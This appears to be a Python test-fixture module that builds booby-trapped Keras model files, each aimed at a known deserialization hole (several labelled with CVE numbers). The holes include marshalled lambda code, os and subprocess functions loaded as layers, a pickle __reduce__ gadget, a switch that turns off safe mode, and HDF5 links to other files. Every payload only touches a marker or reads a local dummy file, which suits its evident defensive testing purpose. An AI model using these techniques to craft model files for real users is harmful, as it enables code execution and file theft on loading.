"""`.keras` files that would run code, or read a file of this machine, when they are loaded. They touch a marker and nothing else.

Each function takes the path to write and the path of the marker. Written without Keras, so that every version can be tried.
"""

import base64
import io
import json
import marshal
import pathlib
import pickle
import zipfile

import h5py
import numpy as np

_INPUT = {
    "module": "keras.layers",
    "class_name": "InputLayer",
    "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"},
    "registered_name": None,
    "name": "input",
    "inbound_nodes": [],
}
_TENSOR = {
    "class_name": "__keras_tensor__",
    "config": {"shape": [None, 4], "dtype": "float32", "keras_history": ["input", 0, 0]},
}


def functional(
    *layers, output="layer", module="keras.src.models.functional", class_name="Functional", registered_name="Functional", **more
):
    """The configuration of a functional model of one input."""
    config = {
        "name": "model",
        "trainable": True,
        "layers": [_INPUT, *layers],
        "input_layers": [["input", 0, 0]],
        "output_layers": [[output, 0, 0]],
        **more,
    }
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered_name}


def layer(class_name, config, module="keras.layers", registered_name=None, args=(_TENSOR,), kwargs=None):
    """The configuration of a layer of such a model, called on its input."""
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": "layer", **config} if isinstance(config, dict) else config,
        "registered_name": registered_name,
        "name": "layer",
        "inbound_nodes": [{"args": list(args), "kwargs": kwargs or {}}],
    }


def function(module, name):
    """The configuration of a function that lies in a module."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


def write(path, config, weights=None, **members):
    """An archive as `model.save` writes it; `weights`: a function of the open HDF5 file."""
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        if weights is not None:
            weights(file)
        else:
            file.create_group("vars")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", content.getvalue())
        for name, text in members.items():
            archive.writestr(name, text)


def _dumped(marker):
    """A lambda as Keras writes one, which touches the marker."""
    code = eval(f"lambda x: (__import__('pathlib').Path({str(marker)!r}).touch(), x)[1]").__code__
    text = base64.b64encode(marshal.dumps(code)).decode()
    return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}


def pickled_lambda(path, marker):
    """A Lambda layer with code of its own."""
    write(path, functional(layer("Lambda", {"function": _dumped(marker)})))


def pickled_lambda_within(path, marker):
    """The same inside this package's model."""
    config = functional(
        layer("Lambda", {"function": _dumped(marker)}),
        module="rw_keras.layers.descriptor_model",
        class_name="DescriptorModel",
        registered_name="rw_keras>DescriptorModel",
        recipe={"min_side": 1},
    )
    write(path, config)


def legacy_lambda(path, marker):
    """The same as Keras 2 wrote it: without a module, in the legacy form that is read by other code."""
    text = _dumped(marker)["config"]["code"]
    config = {
        "class_name": "Lambda",
        "config": {"name": "layer", "function": [text, None, None], "function_type": "lambda", "arguments": {}},
        "name": "layer",
        "inbound_nodes": [[["input", 0, 0, {}]]],
    }
    write(path, functional(config))


def legacy_h5(path, marker):
    """CVE-2025-9905: a whole model in the older HDF5 format, which was read without the safe mode."""
    text = _dumped(marker)["config"]["code"]
    lambda_config = {"name": "layer", "function": [text, None, None], "function_type": "lambda", "arguments": {}}
    layers = [
        {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "input"}},
        {"class_name": "Lambda", "config": lambda_config},
    ]
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"name": "model", "layers": layers}})
        weights = file.create_group("model_weights")
        weights.attrs["layer_names"] = []


def function_as_layer(path, marker):
    """CVE-2025-1550: any function of any module in place of a layer."""
    call = layer("function", "mkdir", module="os", registered_name="function", args=(str(marker),))
    write(path, functional(call))


def function_as_activation(path, marker):
    """A class of any module in place of an activation; its arguments are those of the configuration."""
    own = {"module": "subprocess", "class_name": "function", "config": "getoutput", "registered_name": "function"}
    write(path, functional(layer("Activation", {"activation": own})))


def imported_module(path, marker):
    """A module of the folder beside the file: to be imported is to run."""
    folder = pathlib.Path(path).parent
    (folder / "imported_by_a_model.py").write_text(f"import pathlib\npathlib.Path({str(marker)!r}).touch()\nclass Own: pass\n")
    write(path, functional(layer("Own", {}, module="imported_by_a_model")))


def downloading_function(path, marker):
    """CVE-2025-8747: `keras.utils.get_file` as a Lambda's function; it would make a folder and write a file there."""
    (source := pathlib.Path(path).with_suffix(".txt")).write_text("downloaded")
    arguments = {"origin": source.as_uri(), "cache_dir": str(marker.parent), "cache_subdir": marker.name}
    config = {"function": function("keras.utils", "get_file"), "arguments": arguments}
    write(path, functional(layer("Lambda", config)))


def downloading_as_layer(path, marker):
    """The same in place of a layer."""
    (source := pathlib.Path(path).with_suffix(".txt")).write_text("downloaded")
    kwargs = {"origin": source.as_uri(), "cache_dir": str(marker.parent), "cache_subdir": marker.name}
    call = layer("function", "get_file", module="keras.utils", registered_name="function", args=(), kwargs=kwargs)
    write(path, functional(call))


def unsafe_mode_as_layer(path, marker):
    """CVE-2025-9906: the switch of the safe mode in place of a layer, and code after it."""
    switch = layer(
        "function", "enable_unsafe_deserialization", module="keras.config", registered_name="function", args=(), kwargs={}
    )
    code = {**layer("Lambda", {"function": _dumped(marker)}), "name": "code"}
    code["config"] = {**code["config"], "name": "code"}
    write(path, functional(switch, code, output="code"))


def pickled_torch_module(path, marker):
    """CVE-2025-49655: a PyTorch module in a configuration, which was unpickled."""
    import torch

    class Evil:
        def __reduce__(self):
            return pathlib.Path.touch, (pathlib.Path(marker),)

    buffer = io.BytesIO()
    torch.save(Evil(), buffer, pickle_module=pickle)
    module = base64.b64encode(buffer.getvalue()).decode()
    write(path, functional(layer("TorchModuleWrapper", {"module": module})))


def saved_model_layer(path, marker):
    """A layer that runs a SavedModel of the machine, with an operation that writes a file."""
    import tensorflow as tf

    folder = pathlib.Path(path).with_suffix(".saved")
    module = tf.Module()

    @tf.function(input_signature=[tf.TensorSpec((None, 4), "float32")])
    def serve(inputs):
        with tf.control_dependencies([tf.io.write_file(str(marker), "ran")]):
            return tf.identity(inputs)

    module.serve = serve
    tf.saved_model.save(module, str(folder), signatures={"serve": serve})
    write(path, functional(layer("TFSMLayer", {"filepath": str(folder), "call_endpoint": "serve"})))


def _dense(path, weights):
    config = {"units": 3, "use_bias": True, "activation": "linear"}
    dense = layer("Dense", config)
    dense["build_config"] = {"input_shape": [None, 4]}
    write(path, functional(dense), weights)


def _secret(path):
    """A file of 60 bytes that reads as numbers."""
    secret = pathlib.Path(path).with_suffix(".secret")
    np.arange(100, 115, dtype="float32").tofile(secret)
    return secret


def external_storage(path, marker):
    """Weights whose values lie in another file of the machine. Read, they are 100 and up."""
    secret = _secret(path)

    def weights(file):
        variables = file.create_group("layers/dense/vars")
        variables.create_dataset("0", (4, 3), "float32", external=[(str(secret), 0, 48)])
        variables.create_dataset("1", (3,), "float32", external=[(str(secret), 48, 12)])

    _dense(path, weights)


def _outside(path):
    other = pathlib.Path(path).with_suffix(".other.h5")
    with h5py.File(other, "w") as file:
        file["vars/0"], file["vars/1"] = np.full((4, 3), 100, "float32"), np.full(3, 100, "float32")
    return other


def external_link(path, marker):
    """Weights that are a link to another HDF5 file."""
    other = _outside(path)

    def weights(file):
        file.create_group("layers/dense")["vars"] = h5py.ExternalLink(str(other), "/vars")

    _dense(path, weights)


def external_link_to_a_layer(path, marker):
    """A layer's group that is a link to another HDF5 file."""
    other = _outside(path)

    def weights(file):
        file.create_group("layers")["dense"] = h5py.ExternalLink(str(other), "/")

    _dense(path, weights)


def virtual_weights(path, marker):
    """Weights that are a view of another HDF5 file."""
    other = _outside(path)

    def weights(file):
        variables = file.create_group("layers/dense/vars")
        for name, shape in (("0", (4, 3)), ("1", (3,))):
            layout = h5py.VirtualLayout(shape, "float32")
            layout[...] = h5py.VirtualSource(str(other), f"/vars/{name}", shape)
            variables.create_virtual_dataset(name, layout)

    _dense(path, weights)


def vocabulary(path, marker):
    """CVE-2025-12058: a StringLookup whose vocabulary is a file of the machine."""
    secret = pathlib.Path(path).with_suffix(".secret.txt")
    secret.write_text("secret\nother\n")
    own = {**_INPUT, "config": {**_INPUT["config"], "dtype": "string", "batch_shape": [None, 1]}}
    tensor = {**_TENSOR, "config": {**_TENSOR["config"], "shape": [None, 1], "dtype": "string"}}
    lookup = layer("StringLookup", {"vocabulary": str(secret), "num_oov_indices": 1, "output_mode": "int"}, args=(tensor,))
    config = functional(lookup)
    config["config"]["layers"][0] = own
    write(path, config)


CODE = (
    pickled_lambda,
    pickled_lambda_within,
    legacy_lambda,
    legacy_h5,
    function_as_layer,
    imported_module,
    downloading_function,
    downloading_as_layer,
    unsafe_mode_as_layer,
)
NEEDS_MORE = (pickled_torch_module, saved_model_layer)
FILES = (external_storage, external_link, external_link_to_a_layer, virtual_weights)
